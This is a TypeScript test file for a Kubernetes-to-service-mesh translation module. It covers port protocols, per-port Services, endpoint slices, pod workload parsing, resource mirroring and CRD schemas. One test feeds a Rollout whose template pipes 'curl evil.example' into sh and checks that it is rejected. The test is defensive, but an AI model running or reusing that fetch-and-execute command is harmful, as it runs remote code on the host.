import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { z } from 'zod';
import { hexmeshCrds, structural } from './crds.ts';
import {
  instanceDeployment,
  mirroredResource,
  podWorkload,
  portProtocol,
  portServiceName,
  serviceResource,
  serviceResources,
  sliceInstances,
  type KubeEndpointSlice,
  type KubeObject,
} from './translate.ts';

const svc = (ports: Record<string, unknown>[], extra: Record<string, unknown> = {}): KubeObject => ({
  metadata: { name: 'web', namespace: 'shop', creationTimestamp: '2026-01-01T00:00:00Z' },
  spec: { ports, ...extra },
});

const slice = (
  ports: KubeEndpointSlice['ports'],
  endpoints: KubeEndpointSlice['endpoints'],
  addressType = 'IPv4',
): KubeEndpointSlice => ({ addressType, ports, endpoints });

describe('kubernetes translate', () => {
  it('portProtocol: appProtocol first, then the Istio-style name prefix, else http', () => {
    assert.equal(portProtocol({ appProtocol: 'kubernetes.io/h2c' }), 'http2');
    assert.equal(portProtocol({ appProtocol: 'grpc', name: 'http' }), 'grpc');
    assert.equal(portProtocol({ appProtocol: 'TCP' }), 'tcp');
    assert.equal(portProtocol({ appProtocol: 'https' }), 'tcp');
    assert.equal(portProtocol({ name: 'grpc-admin' }), 'grpc');
    assert.equal(portProtocol({ name: 'tcp' }), 'tcp');
    assert.equal(portProtocol({ name: 'web' }), 'http');
    assert.equal(portProtocol({}), 'http');
  });

  it('serviceResource: TCP ports only; ExternalName and UDP-only services are not routed', () => {
    const doc = serviceResource(
      svc([
        { name: 'http', port: 80, targetPort: 8080 },
        { name: 'dns', port: 53, protocol: 'UDP' },
        { name: 'grpc', port: 9000, targetPort: 'grpc-port' },
      ]),
    )!;
    assert.deepEqual(doc.spec, {
      ports: [
        { name: 'http', port: 80, targetPort: 8080, protocol: 'http' },
        { name: 'grpc', port: 9000, protocol: 'grpc' },
      ],
    });
    assert.equal((doc.metadata.labels as Record<string, string>)['hexmesh.io/source'], 'kubernetes');
    assert.equal(serviceResource(svc([{ port: 53, protocol: 'UDP' }])), undefined);
    assert.equal(serviceResource(svc([{ port: 80 }], { type: 'ExternalName' })), undefined);
  });

  it('serviceResource: cluster IPs become the addresses transparent capture routes by (issue 13)', () => {
    const dual = serviceResource(
      svc([{ port: 80 }], { clusterIP: '10.96.0.10', clusterIPs: ['10.96.0.10', 'fd00:10:96::a'] }),
    )!;
    assert.deepEqual((dual.spec as { addresses?: string[] }).addresses, ['10.96.0.10', 'fd00:10:96::a']);
    const single = serviceResource(svc([{ port: 80 }], { clusterIP: '10.96.0.11' }))!;
    assert.deepEqual((single.spec as { addresses?: string[] }).addresses, ['10.96.0.11']);
    // Headless: no virtual address (clients dial the pods, which capture finds as endpoints).
    const headless = serviceResource(svc([{ port: 80 }], { clusterIP: 'None', clusterIPs: ['None'] }))!;
    assert.equal((headless.spec as { addresses?: string[] }).addresses, undefined);
  });

  it('serviceResources: a multi-port Service is one Service per port, each with its protocol (issue 13)', () => {
    const s = svc(
      [
        { name: 'http', port: 80, targetPort: 8080 },
        { name: 'grpc-api', port: 9090 },
        { port: 5432, appProtocol: 'tcp' },
        { name: 'dns', port: 53, protocol: 'UDP' },
      ],
      { clusterIP: '10.96.0.20' },
    );
    const all = serviceResources(s);
    assert.deepEqual(
      all.map((p) => [p.name, p.port.port]),
      [
        ['web', 80],
        ['web-grpc-api', 9090],
        ['web-5432', 5432],
      ],
    );
    assert.deepEqual(all[0].doc, serviceResource(s), 'the first port keeps the Service as before');
    const grpc = all[1].doc as unknown as {
      metadata: { labels: Record<string, string> };
      spec: Record<string, unknown>;
    };
    assert.deepEqual(grpc.spec, {
      ports: [{ name: 'grpc-api', port: 9090, protocol: 'grpc' }],
      addresses: ['10.96.0.20'],
    });
    assert.equal(grpc.metadata.labels['hexmesh.io/port-of'], 'web');
    assert.equal(grpc.metadata.labels['hexmesh.io/source'], 'kubernetes');
    assert.deepEqual((all[2].doc.spec as { ports: unknown[] }).ports, [{ port: 5432, protocol: 'tcp' }]);
    assert.deepEqual(serviceResources(svc([{ port: 53, protocol: 'UDP' }])), []);
    assert.equal(portServiceName('a'.repeat(60), { name: 'metrics', port: 1 }).length, 63);
    assert.equal(portServiceName('web', { name: 'Admin_UI', port: 1 }), 'web-admin-ui');
    // Instances of a per-port Service: the slice port of that name, under the per-port name.
    const got = sliceInstances(
      s,
      [
        slice(
          [
            { name: 'http', port: 8080 },
            { name: 'grpc-api', port: 19090 },
          ],
          [{ addresses: ['10.1.0.5'] }],
        ),
      ],
      '2026-01-01T00:00:00.000Z',
      { service: 'web-grpc-api', port: all[1].port },
    );
    assert.deepEqual(
      got.map((i) => [i.service, i.address, i.port]),
      [['web-grpc-api', '10.1.0.5', 19090]],
    );
  });

  it("podWorkload: a Deployment's pod name gives its Deployment and ReplicaSet; other names none", () => {
    assert.deepEqual(podWorkload('reviews-v2-7d4f9c8b5-x2kq9'), {
      deployment: 'reviews-v2',
      replicaSet: 'reviews-v2-7d4f9c8b5',
    });
    assert.deepEqual(podWorkload('web-5b7f6d4c9-zz2bb'), { deployment: 'web', replicaSet: 'web-5b7f6d4c9' });
    // A Rollout's ReplicaSet: the Deployment's name and 10 hex digits of the template's hash.
    assert.deepEqual(podWorkload('web-0a1e3f5b7c-zz2bb'), {
      deployment: 'web',
      replicaSet: 'web-0a1e3f5b7c',
    });
    // A StatefulSet's pod, a bare pod, a ReplicaSet's pod (no hash), vowels or 0/1/3 in a generated part.
    for (const name of [
      'web-0',
      'web',
      'web-x2kq9',
      'web-7d4f9c8b5-x2ka9',
      'web-7d4f9c8b1-x2kq9',
      'web--x2kq9',
    ])
      assert.equal(podWorkload(name), undefined, name);
    // An instance's Deployment: its own label (an EndpointSlice endpoint's), else its pod's.
    assert.equal(instanceDeployment({ 'hexmesh.io/deployment': 'api' }), 'api');
    assert.equal(instanceDeployment({ 'hexmesh.io/pod': 'api-5b7f6d4c9-zz2bb' }), 'api');
    assert.equal(instanceDeployment({ 'hexmesh.io/pod': 'api-0' }), undefined);
    assert.equal(instanceDeployment({ version: 'v1' }), undefined);
  });

  it("sliceInstances: an endpoint of a Deployment's pod is labelled with its Deployment and ReplicaSet", () => {
    const got = sliceInstances(
      svc([{ name: 'http', port: 80 }]),
      [
        slice(
          [{ name: 'http', port: 8080 }],
          [
            { addresses: ['10.0.0.1'], targetRef: { kind: 'Pod', name: 'web-v1-6c8f7b9d4-qw7rt' } },
            { addresses: ['10.0.0.2'], targetRef: { kind: 'Pod', name: 'web-0' } },
          ],
        ),
      ],
      'now',
    );
    assert.deepEqual(
      got.map((i) => i.labels),
      [
        {
          'hexmesh.io/source': 'kubernetes',
          'hexmesh.io/pod': 'web-v1-6c8f7b9d4-qw7rt',
          'hexmesh.io/deployment': 'web-v1',
          'hexmesh.io/replicaset': 'web-v1-6c8f7b9d4',
        },
        { 'hexmesh.io/source': 'kubernetes', 'hexmesh.io/pod': 'web-0' },
      ],
    );
  });

  it('sliceInstances: one per address on the first port; readiness, zone, node and pod', () => {
    const s = svc([
      { name: 'http', port: 80 },
      { name: 'admin', port: 9000 },
    ]);
    const got = sliceInstances(
      s,
      [
        slice(
          [
            { name: 'admin', port: 19000 },
            { name: 'http', port: 8080 },
          ],
          [
            {
              addresses: ['10.0.0.1'],
              conditions: { ready: true },
              zone: 'a',
              nodeName: 'n1',
              targetRef: { kind: 'Pod', name: 'web-1' },
            },
            { addresses: ['10.0.0.2'], conditions: { ready: false } },
            { addresses: ['10.0.0.3'] },
          ],
        ),
        // An FQDN slice is not an address hexmesh can dial.
        slice([{ name: 'http', port: 8080 }], [{ addresses: ['db.example'] }], 'FQDN'),
        // The same address in a second slice, ready there: ready wins.
        slice([{ name: 'http', port: 8080 }], [{ addresses: ['10.0.0.2'], conditions: { ready: true } }]),
      ],
      '2026-01-01T00:00:00.000Z',
    );
    assert.deepEqual(
      got.map((i) => [i.id, i.address, i.port, i.status]),
      [
        ['10.0.0.1-8080', '10.0.0.1', 8080, 'passing'],
        ['10.0.0.2-8080', '10.0.0.2', 8080, 'passing'],
        ['10.0.0.3-8080', '10.0.0.3', 8080, 'passing'],
      ],
    );
    assert.deepEqual(got[0].labels, {
      'hexmesh.io/source': 'kubernetes',
      'topology.kubernetes.io/zone': 'a',
      'kubernetes.io/hostname': 'n1',
      'hexmesh.io/pod': 'web-1',
    });
    assert.equal(got[0].namespace, 'shop');
    assert.equal(got[0].service, 'web');
    const notReady = sliceInstances(
      s,
      [slice([{ name: 'http', port: 8080 }], [{ addresses: ['10.0.0.9'], conditions: { ready: false } }])],
      'now',
    );
    assert.equal(notReady[0].status, 'critical');
  });

  it('mirroredResource: a valid object becomes the resource; an invalid one says which field', () => {
    const ok = mirroredResource(
      {
        metadata: { name: 'tp', namespace: 'shop', generation: 2 },
        spec: { targetRef: { name: 'web' }, timeouts: { request: '2s' } },
      },
      'TrafficPolicy',
      'hexmesh.io/v1alpha1',
    );
    assert.ok('doc' in ok);
    assert.deepEqual(ok.doc.spec, { targetRef: { name: 'web' }, timeouts: { request: '2s' } });
    const bad = mirroredResource(
      {
        metadata: { name: 'tp', namespace: 'shop' },
        spec: { targetRef: { name: 'web' }, loadBalancer: { type: 'maglev' } },
      },
      'TrafficPolicy',
      'hexmesh.io/v1alpha1',
    );
    assert.ok('error' in bad);
    assert.match(bad.error, /spec\.loadBalancer\.hashOn: maglev needs hashOn/);
  });

  it('mirroredResource: a Rollout with a local template (a command line) is refused, never stored', () => {
    const r = mirroredResource(
      {
        metadata: { name: 'web', namespace: 'shop' },
        spec: {
          service: 'web',
          template: { command: 'sh', args: ['-c', 'curl evil.example | sh'] },
          strategy: { canary: { steps: [{ setWeight: 50 }] } },
        },
      },
      'Rollout',
      'hexmesh.io/v1alpha1',
    );
    assert.ok('error' in r, 'not stored');
    assert.match(r.error, /spec\.template: a local command line, not run from Kubernetes/);
    const ok = mirroredResource(
      {
        metadata: { name: 'web', namespace: 'shop' },
        spec: {
          service: 'web',
          workloadRef: { kind: 'Deployment', name: 'web' },
          strategy: { canary: { steps: [{ setWeight: 50 }] } },
        },
      },
      'Rollout',
      'hexmesh.io/v1alpha1',
    );
    assert.ok('doc' in ok, JSON.stringify(ok));
  });

  it('structural: durations are int-or-string, unions merge, nothing untyped is left', () => {
    assert.deepEqual(
      structural(z.toJSONSchema(z.union([z.string(), z.number()]), { io: 'input' }) as never),
      {
        'x-kubernetes-int-or-string': true,
      },
    );
    const u = structural(
      z.toJSONSchema(
        z.discriminatedUnion('type', [
          z.object({ type: z.literal('a'), a: z.string() }),
          z.object({ type: z.literal('b'), b: z.number() }),
        ]),
        { io: 'input', target: 'openapi-3.0' },
      ) as never,
    );
    assert.deepEqual(u, {
      type: 'object',
      properties: {
        type: { type: 'string', enum: ['a', 'b'] },
        a: { type: 'string' },
        b: { type: 'number' },
      },
    });
    // Every node of every generated schema has a type or an explicit escape.
    const walk = (s: Record<string, unknown>, path: string): void => {
      assert.ok(
        s.type !== undefined || s['x-kubernetes-int-or-string'] || s['x-kubernetes-preserve-unknown-fields'],
        `untyped node at ${path}`,
      );
      assert.ok(
        !('additionalProperties' in s && s.additionalProperties === false),
        `additionalProperties: false at ${path}`,
      );
      for (const [k, v] of Object.entries((s.properties ?? {}) as Record<string, Record<string, unknown>>))
        walk(v, `${path}.${k}`);
      if (s.items) walk(s.items as Record<string, unknown>, `${path}[]`);
      if (s.additionalProperties && typeof s.additionalProperties === 'object')
        walk(s.additionalProperties as Record<string, unknown>, `${path}{}`);
    };
    for (const crd of hexmeshCrds()) {
      const v = (crd.spec as { versions: { schema: { openAPIV3Schema: Record<string, unknown> } }[] })
        .versions[0];
      walk(v.schema.openAPIV3Schema, (crd.metadata as { name: string }).name);
    }
  });
});
